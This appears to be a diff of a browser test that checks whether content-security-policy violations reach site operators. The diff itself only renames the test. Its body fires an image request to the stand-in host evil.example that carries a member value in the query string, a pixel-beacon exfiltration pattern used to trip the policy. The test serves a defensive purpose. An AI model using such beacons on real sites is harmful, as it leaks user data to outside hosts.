@@ -4,10 +4,7 @@ import { logLines } from '#src/support/service-logs.ts';
 
 test.use({ allowedErrors: [/evil\.example/] });
 
-test('what the content security policy blocked reaches those who run the site', async ({
-  page,
-  platform,
-}) => {
+test('what the content security policy blocked reaches operators', async ({ page, platform }) => {
   await page.goto('/');
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/pixel?member=hush';
